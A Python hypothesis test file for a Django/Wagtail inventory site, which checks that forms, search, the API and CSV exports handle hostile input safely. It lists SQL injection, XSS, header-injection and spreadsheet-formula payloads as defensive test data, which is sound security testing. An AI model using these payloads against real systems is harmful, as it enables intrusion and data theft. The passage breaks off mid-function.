"""Bad input gets a clear answer, never a 500 (property-based, with hypothesis).

Every public form (inventory submission, status lookup, update request and
proposal, team join, meeting registration) and every query parameter of the
inventory search, its JSON and CSV, and the site search is fed huge strings,
control characters and NUL bytes, mixed scripts, invalid UTF-8, repeated
parameters, SQL and search-engine syntax, HTML and script payloads and absurd
pagination. The answer is 200 or 400 (429 for a rate limit, a local 302 after a
successful POST), HTML from the public is escaped wherever it is shown, and a
refused submission writes nothing. A description full of XSS payloads, sent
through the public form and approved by an editor, is published as inert text;
any HTML in an imported file is kept only as far as the description's editor
could have written it, on the entry page and in the editors' preview.
Every CSV the platform writes (the admin listing exports, Wagtail's reports,
the report figures, the public inventory export) holds no cell a spreadsheet
would run as a formula, whatever text its records carry, and the inventory's
CSV reads back into the import exactly.

The number of generated inputs per property is in ``BUDGET`` (its sum is
``TOTAL_GENERATED_INPUTS``); hand-picked edge cases (``@example``) run on top and
are counted in ``EDGE_CASES``.
"""

import csv
import io
import itertools
import json
import tempfile
from pathlib import Path
from urllib.parse import quote, urlencode, urlsplit

from django.core import signing
from django.core.cache import cache
from django.core.management import call_command
from django.http import QueryDict
from django.templatetags.static import static
from django.test import Client, override_settings
from django.urls import reverse

from wagtail.models import Page, Revision, TaskState, WorkflowState

import pytest
from bs4 import BeautifulSoup
from hypothesis import HealthCheck, Phase, event, example, given, settings
from hypothesis import strategies as st

from action_lines.models import MeetingRegistration, TeamMembershipRequest
from home.models import StakeholderOrganisation
from home.rich_text import clean_rich_text
from home.roles import INVENTORY_EDITORS
from home.validators import control_characters
from inventory.importing import RowValidator, read_rows
from inventory.models import (
    AnnualContribution,
    EntryFacetValue,
    InventoryEntry,
)
from inventory.moderation import submit_for_moderation
from inventory.search import (
    MAX_PAGE_SIZE,
    MAX_QUERY_LENGTH,
    MAX_RESULT_WINDOW,
    SORTS,
    ClusterEngine,
    InventoryQuery,
    clean_text,
)
from reporting.models import ReportPage
from search.backends import default_backend
from tests.factories import (
    InventoryEntryFactory,
    ReportIndexPageFactory,
    ReportPageFactory,
    UserFactory,
)
from tests.helpers.pages import publish
from tests.helpers.search import cluster_settings
from tests.helpers.spreadsheets import (
    FORMULA_PIECES,
    assert_no_formula,
    exported_values,
)
from tests.helpers.spreadsheets import body as csv_body
from tests.helpers.spreadsheets import rows as csv_rows

pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("empty_cache")]

# --- Budget -----------------------------------------------------------------

EXAMPLES = 50  # generated inputs per property (hypothesis max_examples)
BUDGET = {}  # property → max_examples
EDGE_CASES = {}  # property → number of explicit @example cases


def fuzz(max_examples=EXAMPLES):
    """Deterministic hypothesis settings for one property, counted in BUDGET.

    Goes above ``@given`` (and the ``@example``s, which it counts).
    """

    def decorate(test):
        BUDGET[test.__name__] = max_examples
        EDGE_CASES[test.__name__] = len(
            getattr(test, "hypothesis_explicit_examples", ())
        )
        return settings(
            max_examples=max_examples,
            deadline=None,
            derandomize=True,
            database=None,
            # No "explain" phase: its tracer makes replays of huge inputs crawl.
            phases=[Phase.explicit, Phase.reuse, Phase.generate, Phase.shrink],
            suppress_health_check=[
                HealthCheck.function_scoped_fixture,
                HealthCheck.too_slow,
                HealthCheck.data_too_large,
                HealthCheck.large_base_example,
            ],
        )(test)

    return decorate


# --- The site -------------------------------------------------------------------


@pytest.fixture
def site(tree):
    """The action-line tree of tests/conftest.py and a few published entries."""
    InventoryEntryFactory(
        title="Cyber drills for West African CERTs",
        action_lines=["C5"],
        countries=["SEN", "CIV"],
        sdgs=[9, 16],
        organisation=StakeholderOrganisation.objects.create(
            name="AfricaCERT", stakeholder_type="civil-society"
        ),
        published=True,
    )
    InventoryEntryFactory(
        title="مبادرة الحكومة الإلكترونية",
        summary="مشروع للخدمات العامة الرقمية.",
        action_lines=["C7-EGOV"],
        countries=["EGY"],
        stakeholder_type="government",
        status="completed",
        published=True,
    )
    InventoryEntryFactory(
        title="宽带接入项目",
        action_lines=["C2"],
        countries=["global"],
        status="planned",
        reporting_year=2024,
        published=True,
    )
    InventoryEntryFactory(
        title="Never published",
        draft=True,
        organisation=StakeholderOrganisation.objects.create(
            name="Drafts Only", stakeholder_type="other"
        ),
    )
    return tree


# --- Hostile text -----------------------------------------------------------

SQL = [
    "' OR 1=1 --",
    "1; DROP TABLE inventory_inventoryentry; --",
    '" OR ""="',
    "' UNION SELECT password FROM auth_user --",
    "%' AND '%'='",
    "\\'; --",
    "%",
    "_",
    "%%__",
]
SEARCH_SYNTAX = [
    "title:(a OR b)",
    "*",
    "~",
    "a~2",
    '"',
    '"unbalanced',
    "(",
    ")",
    "[a TO z]",
    "{",
    "}",
    "AND",
    "a OR",
    "NOT b",
    "-a",
    "+a",
    "!",
    "^2",
    "/regex/",
    "a:b",
    '{"query": {"match_all": {}}}',
    '{"query":{"script":{"source":"1"}}}',
    "\\",
    "&&",
    "||",
    "?",
    "NEAR(a b)",
    "a*b?c",
    "title:*",
    "a'b",
    "'",
]
XSS = [
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    '"><script>alert(1)</script>',
    "<img src=x onerror=alert(1)>",
    '<a href="javascript:alert(1)">x</a>',
    "<a href='jav&#x09;ascript:alert(1)'>x</a>",
    "javascript:alert(1)",
    '<iframe src="javascript:alert(1)"></iframe>',
    "<svg onload=alert(1)>",
    '<p style="background:url(javascript:alert(1))">x</p>',
    "<object data=x></object><embed src=x>",
    "</textarea><script>alert(1)</script>",
    "{{ 7|add:7 }}",
    "{% debug %}",
    "${7*7}",
    "'-alert(1)-'",
    "&lt;script&gt;",
    "<!--",
    "]]>",
]
SCRIPTS = [
    "مرحبا بالعالم",
    "信息社会世界峰会",
    "Всемирная встреча",
    "🌍🚀👩🏽‍💻",
    "\u202eevil\u202c",
    "\u200fשלום\u200e",
    "\ufeffBOM",
    "e\u0301",
    "Ｆｕｌｌ",
    "ﬁ",
    "İ",
    "ß",
    "²",
    "١٢٣",
    "\U0010ffff",
    "Z̤͔ͧ̑̓ä͖̭̈̇lͮ̒ͫǫ̗̻",
    "\u2028\u2029",
]
CONTROL = ["\x00", "a\x00b", "\x01\x02\x1f", "\x1b[31m", "\r\n", "\t", "\x7f", "\x85"]
PAYLOADS = SQL + SEARCH_SYNTAX + XSS + SCRIPTS + CONTROL
HUGE_SEEDS = ["a", "é", "<script>", "\x00", "مرحبا ", "🌍", " ", "' OR 1=1 -- "]
HUGE = 100_000


def huge(seed):
    return (seed * (HUGE // len(seed) + 1))[:HUGE]


huge_text = st.sampled_from(HUGE_SEEDS).map(huge)
short_nasty_text = st.one_of(
    st.sampled_from(PAYLOADS),
    st.text(max_size=40),
    st.lists(
        st.one_of(st.sampled_from(PAYLOADS), st.text(max_size=8)),
        min_size=2,
        max_size=5,
    ).map("".join),
)
nasty_text = st.one_of(short_nasty_text, huge_text)

# Raw pieces of a query string or form body: invalid UTF-8 (percent-encoded or
# raw bytes), broken escapes, separators.
RAW_FRAGMENTS = [
    b"%FF%FE",
    b"q=%FF%FE",
    b"q=%C3%28",
    b"q=%ED%A0%80",
    b"q=%F4%90%80%80",
    b"q=%C0%AF",
    b"%",
    b"%G0",
    b"%%",
    b"q=%0",
    b"&",
    b"=",
    b"==",
    b";",
    b"+",
    b"q=\xff\xfe",
    b"country=\xc3\x28",
    b"q=\xe2\x80\xae",
    b"q=%00",
    b"page=",
    b"sort=%FF",
    b"country=%FF",
    b"q=%E2%80%AE",
    b"q=\xc3\xa9",
]


def with_fragments(encoded, fragments):
    """A query string (str, as WSGI gives it: bytes read as Latin-1)."""
    raw = encoded.encode("ascii")
    for fragment in fragments:
        raw += b"&" + fragment
    return raw.decode("latin-1")


# --- Inventory query strings (docs/inventory-query.md) -------------------------

VALID = {
    "q": ["cyber", "CERT drills", "مبادرة", "宽带", ""],
    "action_line": ["C5", "c5", "C7-EGOV", "C2", "C12", "C7"],
    "country": ["SEN", "sen", "global", "EGY", "XXX", "Global"],
    "region": ["africa", "arab-states", "europe", "Africa", "mars"],
    "stakeholder": ["government", "civil-society", "robots"],
    "status": ["planned", "ongoing", "completed", "ONGOING"],
    "type": ["project", "training", "other", "spell"],
    "year": ["2025", "2024", "1989", "2101", "02025", "²⁰²⁵"],
    "sdg": ["1", "9", "16", "17", "0", "18", "09", "¹"],
    "organisation": [
        "africacert",
        "AfricaCERT",
        "drafts-only",
        "nobody",
        "-",
        "a" * 101,
    ],
    "started": [
        "2025-01-01..2025-12-31",
        "..2024-12-31",
        "2025-01-01..",
        "..",
        "2025-12-31..2025-01-01",
        "0000-01-01..",
        "0001-01-01..9999-12-31",
        "2024-02-30..",
        "2025",
        "٢٠٢٥-01-01..",
    ],
    "active": ["2025-01-01..2025-12-31", "..0001-01-01", "2025-01-01", "x..y"],
    "sort": ["relevance", "newest", "title", "-title", "random"],
    "page": ["1", "2", "0", "-1", "1e3", str(10**12), "1.5", " 3 ", "٣", "9999999"],
    "page_size": ["1", "20", "100", "101", "0", "-5", "1e9", "10000", "9" * 30],
}
STRAY_PARAMS = ["", "format", "q[]", "Q", "page ", "utf8", "__proto__", "pk"]
PAGE_NUMBERS = st.one_of(
    st.sampled_from(
        [
            "1",
            "2",
            "0",
            "-1",
            "1e3",
            "1.0",
            "0x10",
            "NaN",
            "inf",
            "٣",
            "²",
            "",
            " 4 ",
            "+5",
            "0005",
            str(10**12),
            "9" * 7,
            "9" * 8,
            "1" + "0" * 400,
        ]
    ),
    st.integers(1, 600).map(str),
    st.integers(-(10**13), 10**13).map(str),
    st.floats(allow_nan=True, allow_infinity=True).map(str),
)
PAGE_VALUES = st.one_of(PAGE_NUMBERS, nasty_text)


def value_for(name, text=nasty_text):
    return st.one_of(
        st.sampled_from(VALID.get(name, ["", "1", "x"])),
        text,
        PAGE_NUMBERS if name in ("page", "page_size") else st.nothing(),
    )


def pairs_of(text):
    return st.sampled_from([*VALID, *STRAY_PARAMS]).flatmap(
        lambda name: st.tuples(st.just(name), value_for(name, text))
    )


param_pair = pairs_of(nasty_text)
# Repeated parameters, up to more than DATA_UPLOAD_MAX_NUMBER_FIELDS (10 000);
# short values only (10 001 copies of a huge one would take a gigabyte).
repeated = st.tuples(pairs_of(short_nasty_text), st.sampled_from([2, 21, 10_001])).map(
    lambda pair_times: [pair_times[0]] * pair_times[1]
)
param_pairs = st.one_of(
    st.lists(param_pair, max_size=6),
    repeated,
    st.tuples(st.lists(param_pair, max_size=3), repeated).map(lambda t: t[0] + t[1]),
)
query_strings = st.one_of(
    param_pairs.map(urlencode),
    st.tuples(
        param_pairs.map(urlencode),
        st.lists(st.sampled_from(RAW_FRAGMENTS), min_size=1, max_size=4),
    ).map(lambda t: with_fragments(*t)),
)

# --- What every answer must respect ------------------------------------------

DANGEROUS_TAGS = {"script", "iframe", "object", "embed", "frame", "frameset", "base"}
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "data", "srcdoc", "xlink:href"}
DANGEROUS_SCHEMES = ("javascript:", "vbscript:", "data:text/html")


def is_dangerous_url(value):
    """What a browser would run: whitespace and control characters are ignored."""
    compact = "".join(ch for ch in str(value) if ch > " " and ch != "\x7f").lower()
    return compact.startswith(DANGEROUS_SCHEMES)


def assert_no_executable_content(soup):
    for tag in soup.find_all(True):
        assert tag.name not in DANGEROUS_TAGS, tag
        for attribute, value in tag.attrs.items():
            assert not attribute.lower().startswith("on"), tag
            if attribute.lower() in URL_ATTRIBUTES:
                values = value if isinstance(value, list) else [value]
                assert not any(is_dangerous_url(v) for v in values), tag


def assert_safe_html(response):
    """The page contains no markup from the request: every payload is escaped."""
    body = response.content.decode("utf-8")
    # The site's only script is its own navigation file, loaded from the static
    # files (a strict CSP): any other <script> is injected.
    soup = BeautifulSoup(body, "html.parser")
    scripts = soup.find_all("script")
    site_script = f'<script defer="" src="{static("js/site.js")}"></script>'
    assert [str(script) for script in scripts] == [site_script] * len(scripts)
    assert body.lower().count("<script") == len(scripts) <= 1
    for script in scripts:
        script.decompose()
    assert_no_executable_content(soup)
    return body


def assert_local_redirect(response):
    location = response["Location"]
    assert location.startswith("/") and not location.startswith("//"), location


def snapshot(*models):
    return {model.__name__: model.objects.count() for model in models}


WRITES = (
    InventoryEntry,
    Revision,
    WorkflowState,
    TaskState,
    StakeholderOrganisation,
    EntryFacetValue,
    TeamMembershipRequest,
    MeetingRegistration,
)

# --- Query-string properties ---------------------------------------------------


def answered(response):
    """Counts the answer in hypothesis' statistics (--hypothesis-show-statistics)."""
    event(f"HTTP {response.status_code}")
    return response


def get(client, path, query_string):
    return answered(client.get(path, QUERY_STRING=query_string))


@fuzz()
@given(qs=query_strings)
@example(qs="q=%FF%FE")
@example(qs="q=\xff\xfe")
@example(qs="q=" + "a" * HUGE)
@example(qs="q=%00&country=SEN%00&sort=%00")
@example(qs="action_line=C5&" * 10_001)
@example(qs=urlencode({"q": "<script>alert(1)</script>", "sort": "<b>x</b>"}))
@example(qs=urlencode({"country": '"><script>alert(1)</script>'}))
@example(qs="page=1e3&page_size=10000000000")
def test_inventory_page_answers_200_or_400(site, client, qs):
    """/inventory/: results or a clear message, never a 500, always escaped."""
    response = get(client, "/inventory/", qs)
    assert response.status_code in (200, 400)
    body = assert_safe_html(response)
    if response.status_code == 400:
        # The page's own message, even for more parameters than
        # DATA_UPLOAD_MAX_NUMBER_FIELDS.
        assert "The search could not be run" in body


@fuzz()
@given(qs=query_strings)
@example(qs="q=%FF%FE")
@example(qs="year=\xff")
@example(qs="sdg=%C2%B2")
@example(qs="q=title:(a OR b)&q=*&q=~")
@example(qs=urlencode({"q": '{"query": {"match_all": {}}}'}))
def test_api_answers_200_or_400_with_json(site, client, qs):
    """/api/inventory/: the contract's JSON, or {"errors": [...]} with a 400."""
    response = get(client, "/api/inventory/", qs)
    assert response.status_code in (200, 400, 429)
    # Always JSON, even for more parameters than DATA_UPLOAD_MAX_NUMBER_FIELDS.
    assert response["Content-Type"].startswith("application/json")
    # Browsers must not sniff the JSON (which echoes bad values) into HTML.
    assert response["X-Content-Type-Options"] == "nosniff"
    data = response.json()
    if response.status_code == 200:
        assert {"count", "page", "results", "facets"} <= set(data)
        assert isinstance(data["count"], int) and data["count"] >= 0
        assert isinstance(data["page"], int) and data["page"] >= 1
        assert len(data["results"]) <= MAX_PAGE_SIZE
        for record in data["results"]:
            assert {"id", "title", "summary", "action_lines", "url"} <= set(record)
    else:
        assert data["errors"] and all(isinstance(e, str) for e in data["errors"])


@fuzz()
@given(qs=query_strings)
@example(qs="q=%FF")
@example(qs="q=" + quote('=HYPERLINK("http://x")'))
def test_csv_export_answers_200_or_400(site, client, qs):
    """/inventory/export.csv: a CSV (read to its end), or the 400 page."""
    response = get(client, "/inventory/export.csv", qs)
    assert response.status_code in (200, 400, 429)
    if response.status_code == 200:
        assert response["Content-Type"].startswith("text/csv")
        content = b"".join(response.streaming_content).decode("utf-8")
        rows = list(csv.reader(io.StringIO(content)))
        assert rows and "title" in rows[0]
    else:
        assert_safe_html(response)


site_search_pairs = st.lists(
    st.sampled_from(["q", "page", "q", "page", *STRAY_PARAMS]).flatmap(
        lambda name: st.tuples(
            st.just(name), PAGE_VALUES if name == "page" else value_for("q")
        )
    ),
    max_size=5,
)


@fuzz()
@given(
    qs=st.one_of(
        site_search_pairs.map(urlencode),
        st.tuples(
            site_search_pairs.map(urlencode),
            st.lists(st.sampled_from(RAW_FRAGMENTS), min_size=1, max_size=4),
        ).map(lambda t: with_fragments(*t)),
    )
)
@example(qs=urlencode({"q": "title:(a OR b)"}))
@example(qs=urlencode({"q": '"'}))
@example(qs=urlencode({"q": "*"}))
@example(qs=urlencode({"q": "a~ AND NOT (b OR"}))
@example(qs=urlencode({"q": "' OR 1=1 --"}))
@example(qs=urlencode({"q": "<script>alert(1)</script>"}))
@example(qs=urlencode({"q": "Cyber", "page": str(10**12)}))
@example(qs=urlencode({"q": "Cyber", "page": "-1"}))
@example(qs="q=%FF%FE&page=1e3")
@example(qs="q=\x00")
def test_site_search_answers_200_or_400(site, client, qs):
    """/search/: always a page of results (or a 400), escaped."""
    response = get(client, "/search/", qs)
    assert response.status_code in (200, 400)
    assert_safe_html(response)


# Nothing listens there: the engine is "down", and the search falls back.
UNREACHABLE_ENGINE = "http://127.0.0.1:9"


@fuzz(40)
@given(
    q=nasty_text.map(lambda text: clean_text(text)[:MAX_QUERY_LENGTH]),
    sort=st.sampled_from(SORTS),
)
@example(q="title:(a OR b)", sort="relevance")
@example(q='{"query": {"match_all": {}}}', sort="relevance")
@example(q='"unbalanced AND (', sort="title")
@example(q="* ~ ^ \\ / ? : ! [ ] { }", sort="newest")
def test_cluster_request_is_built_for_any_text(site, client, q, sort):
    """The engine request for any search text is a plain JSON body.

    The Elasticsearch-family request for any search text is a plain JSON body
    (Wagtail compiles the text; nothing of it is passed as query syntax), and with
    the engine unreachable the page falls back to the database.
    """
    with override_settings(WAGTAILSEARCH_BACKENDS=cluster_settings(UNREACHABLE_ENGINE)):
        engine = ClusterEngine(default_backend())
        body = engine.body(InventoryQuery(q=q, sort=sort))
        json.dumps(body)
        if q:
            assert "query_string" not in json.dumps(body["query"])
        response = get(client, "/inventory/", urlencode({"q": q, "sort": sort}))
    assert response.status_code in (200, 400)
    page = assert_safe_html(response)
    if response.status_code == 200:
        assert "temporarily unavailable" in page


INVENTORY_ENDPOINTS = ["/inventory/", "/api/inventory/", "/inventory/export.csv"]


def is_page_number(raw):
    raw = raw.strip()
    return raw.isascii() and raw.isdigit() and len(raw) <= 7 and int(raw) >= 1


@fuzz()
@given(
    path=st.sampled_from(INVENTORY_ENDPOINTS),
    page=PAGE_VALUES,
    page_size=st.one_of(st.none(), PAGE_VALUES),
    q=st.sampled_from(["", "cyber", "宽带"]),
)
@example(path="/api/inventory/", page=str(10**12), page_size=None, q="")
@example(path="/api/inventory/", page="-1", page_size=None, q="")
@example(path="/api/inventory/", page="1e3", page_size=None, q="")
@example(path="/api/inventory/", page="1", page_size=str(10**12), q="")
@example(path="/api/inventory/", page="500", page_size="20", q="")
@example(path="/api/inventory/", page="501", page_size="20", q="")
@example(path="/inventory/export.csv", page="100", page_size="100", q="cyber")
def test_deep_pagination_is_refused_or_empty(site, client, path, page, page_size, q):
    """A page number or size that is not a sane whole number gets a 400.

    A page past the results is empty, never an error.
    """
    params = {"q": q, "page": page}
    if page_size is not None:
        params["page_size"] = page_size
    response = answered(client.get(path, params))
    size_ok = page_size in (None, "") or (
        is_page_number(page_size) and int(page_size) <= MAX_PAGE_SIZE
    )
    page_ok = page == "" or is_page_number(page)
    if page_ok and size_ok:
        number = int(page) if page.strip() else 1
        size = int(page_size) if page_size not in (None, "") else 20
        page_ok = number * size <= MAX_RESULT_WINDOW
    expected = 200 if page_ok and size_ok else 400
    assert response.status_code == expected, (page, page_size)
    assert response.status_code in (200, 400)
    if path == "/api/inventory/" and response.status_code == 200:
        data = response.json()
        assert data["page"] == (int(page) if page.strip() else 1)
        if data["page"] > data["num_pages"]:
            assert data["results"] == []
    elif path == "/inventory/export.csv" and response.status_code == 200:
        b"".join(response.streaming_content)
    elif path == "/inventory/":
        assert_safe_html(response)


# --- Public forms ------------------------------------------------------------

URLENCODED = "application/x-www-form-urlencoded"
CONTENT_TYPES = [URLENCODED] * 6 + [
    f"{URLENCODED}; charset=latin-1",
    f"{URLENCODED}; charset=no-such-charset",
    "multipart/form-data",
    "multipart/form-data; boundary=xyz",
    "text/plain",
    "application/json",
]
OPERATIONS = ["replace", "replace", "replace", "drop", "repeat", "append"]
STRAY_FIELDS = ["", "unknown", "csrfmiddlewaretoken", "id", "pk", "live", "reference"]
LONG_EMAILS = [
    "a" * 250 + "@example.org",  # 262 characters: valid syntax, too long to store
    "b" * 300 + "@example.org",
    "x@" + ".".join(["d" * 63] * 4) + ".org",
    "a" * 64 + "@example.org",
]
FORM_VALUES = st.one_of(
    nasty_text,
    st.sampled_from(
        [
            *LONG_EMAILS,
            "ünïcödé@例え.jp",
            "a@b",
            "@",
            "a@@b.org",
            '"quoted"@example.org',
            "<script>@example.org",
            "a@[127.0.0.1]",
            "2025-02-30",
            "0001-01-01",
            "9999-12-31",
            "10000-01-01",
            "2025-13-01",
            "10/01/2025",
            "٢٠٢٥-٠١-١٠",
            "javascript:alert(1)",
            "http://[",
            "http://[::1",
            "http://" + "a" * 600 + ".org",
            "http://例え.テスト/",
            "//evil.example",
            "http://x/%00",
            "data:text/html,<script>alert(1)</script>",
            "2025",
            "٢٠٢٥",
            "99999999999999999999999",
            "-1",
            "1e3",
            "2025.0",
            " 2025 ",
            "C5",
            "C99",
            "c5",
            "global",
            "GLOBAL",
            "sen",
            "XXX",
            "ongoing",
            "online",
            "in-person",
            "government",
            "",
        ]
    ),
)


def build_body(base, mutations, fragments):
    pairs = list(base)
    for name, operation, value in mutations:
        if operation == "replace":
            pairs = [(k, v) for k, v in pairs if k != name] + [(name, value)]
        elif operation == "drop":
            pairs = [(k, v) for k, v in pairs if k != name]
        elif operation == "repeat":
            pairs += [(name, value)] * 3
        else:
            pairs.append((name, value))
    return with_fragments(urlencode(pairs), fragments).encode("latin-1")


def form_posts(fields):
    """(mutations, raw fragments, content type) applied to a valid form."""
    mutation = st.tuples(
        st.sampled_from([*fields, *STRAY_FIELDS]),
        st.sampled_from(OPERATIONS),
        FORM_VALUES,
    )
    return st.tuples(
        st.lists(mutation, max_size=4),
        st.lists(st.sampled_from(RAW_FRAGMENTS), max_size=2),
        st.sampled_from(CONTENT_TYPES),
    )


def holder_of(entry):
    """A stakeholder account that holds ``entry`` (made once per example run)."""
    from django.contrib.auth import get_user_model

    from allauth.account.models import EmailAddress

    from accounts.models import EntryClaim
    from accounts.profiles import ensure_profile

    user, _created = get_user_model().objects.get_or_create(
        username="fuzz-holder", defaults={"email": "holder@example.org"}
    )
    EmailAddress.objects.get_or_create(
        user=user, email=user.email, defaults={"verified": True, "primary": True}
    )
    ensure_profile(user, language="en")
    EntryClaim.objects.get_or_create(entry=entry, user=user, source="claimed")
    return user


def post_form(client, path, base, mutated, capture):
    mutations, fragments, content_type = mutated
    body = build_body(base, mutations, fragments)
    with capture(execute=True):
        # generic(): post() would re-encode the raw body to the declared charset.
        return answered(client.generic("POST", path, body, content_type=content_type))


def blank_form(response):
    """A POST that carries no form field shows the empty form again.

    A POST that carries no form field at all (say, JSON or a body that is not the
    multipart it claims) shows the empty form again, as a GET does.
    """
    return response.status_code == 200 and not response.context["form"].is_bound


def untouched(mutated):
    mutations, fragments, content_type = mutated
    return not mutations and not fragments and content_type == URLENCODED


SUBMISSION = [
    ("title", "Cyber drills for West African CERTs"),
    ("summary", "Yearly exercises for the national incident response teams."),
    ("description", "Three days of exercises.\n\nOpen to every CERT of the region."),
    ("activity_type", "training"),
    ("status", "ongoing"),
    ("action_lines", "C5"),
    ("sdgs", "9"),
    ("sdgs", "16"),
    ("countries", "SEN"),
    ("countries", "CIV"),
    ("coverage", "regional"),
    ("stakeholder_type", "civil-society"),
    ("organisation_name", "Sahel Cyber Network"),
    ("partner_names", "ITU; AfricaCERT"),
    ("start_date", "2025-01-10"),
    ("end_date", "2025-12-20"),
    ("reporting_year", "2025"),
    ("website", "https://cyberdrills.example.org/"),
    ("keywords", "CERT, exercises"),
    ("contact_name", "Awa Diop"),
    ("contact_email", "awa.diop@example.org"),
    ("homepage", ""),
]
SUBMISSION_FIELDS = list(dict.fromkeys(name for name, _ in SUBMISSION))


def edge(*mutations, fragments=(), content_type=URLENCODED):
    return (list(mutations), list(fragments), content_type)


ENTRY_SINGLE_LINE_FIELDS = [
    "title",
    "contact_name",
    "keywords",
    "proposed_organisation",
    "proposed_partners",
]


def assert_single_line(record, fields):
    r"""No one-line field stores a control character, whatever the form.

    What a form stored in one-line fields has no control character (a title with
    "\r\nBcc:", a name that writes its own lines into an e-mail).
    """
    for name in fields:
        value = getattr(record, name)
        assert not control_characters(value), (name, value)


@fuzz()
@given(mutated=form_posts(SUBMISSION_FIELDS))
@example(mutated=edge())
@example(mutated=edge(("contact_email", "replace", LONG_EMAILS[0])))
@example(mutated=edge(("title", "replace", huge("a"))))
@example(mutated=edge(("description", "replace", huge("<script>"))))
@example(mutated=edge(("title", "replace", "a\x00b")))
@example(mutated=edge(("title", "replace", "Drills\r\nBcc: all@example.org")))
@example(mutated=edge(("contact_name", "replace", "Ada\n\nUrgent: click here")))
@example(mutated=edge(("partner_names", "replace", "ITU;\u2028AfricaCERT")))
@example(mutated=edge(("homepage", "replace", "http://spam.example")))
@example(mutated=edge(("organisation_name", "replace", "\u200f")))
@example(mutated=edge(("partner_names", "replace", ";;;" + "x" * 990)))
@example(mutated=edge(("countries", "repeat", "global")))
@example(mutated=edge(("action_lines", "append", "x"), fragments=[b"q=%FF%FE"]))
@example(mutated=edge(content_type=f"{URLENCODED}; charset=no-such-charset"))
@example(mutated=edge(("keywords", "repeat", huge("🌍"))))
def test_submission_form_never_fails_and_never_half_writes(
    site, client, mailoutbox, django_capture_on_commit_callbacks, mutated
):
    """/inventory/submit/: a 302 saves one entry in moderation.

    Anything else is a 400 (or 429) that writes nothing and sends nothing.
    """
    before, mails = snapshot(*WRITES), len(mailoutbox)
    response = post_form(
        client,
        "/inventory/submit/",
        SUBMISSION,
        mutated,
        django_capture_on_commit_callbacks,
    )
    assert response.status_code in (302, 400, 429) or blank_form(response)
    after = snapshot(*WRITES)
    if response.status_code == 302:
        assert_local_redirect(response)
        assert response["Location"].startswith("/inventory/submit/thanks/?reference=")
        assert after["InventoryEntry"] == before["InventoryEntry"] + 1
        assert after["Revision"] == before["Revision"] + 1
        assert after["WorkflowState"] == before["WorkflowState"] + 1
        # Organisation names wait for an editor's approval.
        assert after["StakeholderOrganisation"] == before["StakeholderOrganisation"]
        entry = InventoryEntry.objects.order_by("-pk").first()
        assert not entry.live
        assert_single_line(entry, ENTRY_SINGLE_LINE_FIELDS)
        assert len(mailoutbox) == mails + 1
        thanks = client.get(response["Location"])
        assert thanks.status_code == 200
        assert_safe_html(thanks)
    else:
        assert after == before
        assert len(mailoutbox) == mails
        if response.status_code == 400 and response.get("Content-Type", "").startswith(
            "text/html"
        ):
            assert_safe_html(response)
    if untouched(mutated):
        assert response.status_code == 302


references = st.one_of(
    nasty_text,
    st.sampled_from(
        [
            "WSIS-26-ABC234",
            "wsis-26-abc234",
            " WSIS-26-ABC234 ",
            "DEMO-1",
            "-",
            "A--B",
            "A" * 21,
            "١٢٣",
            "Ａ",
            "WSIS-26-ABC234\x00",
            "REAL",  # replaced by the reference of an existing entry
        ]
    ),
)


status_keys = st.one_of(
    st.none(),
    nasty_text,
    st.sampled_from(["", "0" * 32, "REAL", "REAL-UPPER", "REAL-SHORT", "OTHER"]),
)
REJECTION_REASON = "Fuzz: the editors' private reason"


def rejected_entry():
    """The site's entry in moderation, rejected with a reason (once)."""
    entry = InventoryEntry.objects.get(title="Never published")
    if entry.current_workflow_state is None:
        editor = UserFactory(username="fuzz-moderator", groups=[INVENTORY_EDITORS])
        submit_for_moderation(entry)
        entry = InventoryEntry.objects.get(pk=entry.pk)
        entry.current_workflow_task_state.specific.reject(
            user=editor, comment=REJECTION_REASON
        )
    return InventoryEntry.objects.get(pk=entry.pk)


@fuzz()
@given(reference=references, key=status_keys, extra=st.lists(param_pair, max_size=3))
@example(reference="REAL", key=None, extra=[])
@example(reference="REAL", key="REAL", extra=[])
@example(reference="REAL", key="REAL-UPPER", extra=[])
@example(reference="REAL", key="OTHER", extra=[("key", "REAL")])
@example(reference="<script>alert(1)</script>", key="<script>", extra=[])
@example(reference="\xff", key="\x00", extra=[])
def test_status_lookup_answers_200_400_or_404(site, client, reference, key, extra):
    """/inventory/status/.

    The status, a 400 for a malformed reference, a 404 for an unknown one; the
    editors' reason only with the entry's own key (the submitter's status link).
    /inventory/submit/thanks/ opens with that key only.
    """
    entry = rejected_entry()
    real_key = entry.status_key()
    if reference == "REAL":
        reference = entry.reference
    key = {
        "REAL": real_key,
        "REAL-UPPER": real_key.upper(),
        "REAL-SHORT": real_key[:-1],
        "OTHER": InventoryEntry.objects.filter(live=True).first().status_key(),
    }.get(key, key)
    before = snapshot(*WRITES)
    pairs = [("reference", reference)] + ([("key", key)] if key is not None else [])
    extra = [(name, real_key if value == "REAL" else value) for name, value in extra]
    qs = urlencode([*pairs, *extra])
    response = get(client, "/inventory/status/", qs)
    assert response.status_code in (200, 400, 404, 429)
    page = assert_safe_html(response)
    # What the view reads: the last value of a repeated parameter.
    sent = QueryDict(qs)
    with_real_key = sent.get("key") == real_key
    if response.status_code == 200 and REJECTION_REASON in page:
        event("the submitter's status")
        assert with_real_key
        assert sent.get("reference").strip().upper() == entry.reference
    thanks = get(client, "/inventory/submit/thanks/", qs)
    assert thanks.status_code in (200, 404)
    assert_safe_html(thanks)
    if thanks.status_code == 200:
        assert with_real_key
    assert snapshot(*WRITES) == before


UPDATE_REQUEST = [("reference", "REAL"), ("contact_email", "REAL")]


@fuzz()
@given(mutated=form_posts(["reference", "contact_email"]))
@example(mutated=edge())
@example(mutated=edge(("contact_email", "replace", LONG_EMAILS[1])))
@example(mutated=edge(("reference", "replace", "' OR 1=1 --")))
def test_update_request_form_writes_nothing(
    site, client, mailoutbox, django_capture_on_commit_callbacks, mutated
):
    """/inventory/update/.

    Updates are proposed from an account now, so the page answers any POST with the
    same 302 (or a 400, or the rate limit's 429); it never writes and never mails.
    """
    entry = InventoryEntry.objects.filter(live=True).order_by("pk").first()
    base = [("reference", entry.reference), ("contact_email", entry.contact_email)]
    before, mails = snapshot(*WRITES), len(mailoutbox)
    response = post_form(
        client, "/inventory/update/", base, mutated, django_capture_on_commit_callbacks
    )
    assert response.status_code in (302, 400, 429) or blank_form(response)
    assert snapshot(*WRITES) == before
    assert mailoutbox[mails:] == []
    if response.status_code == 302:
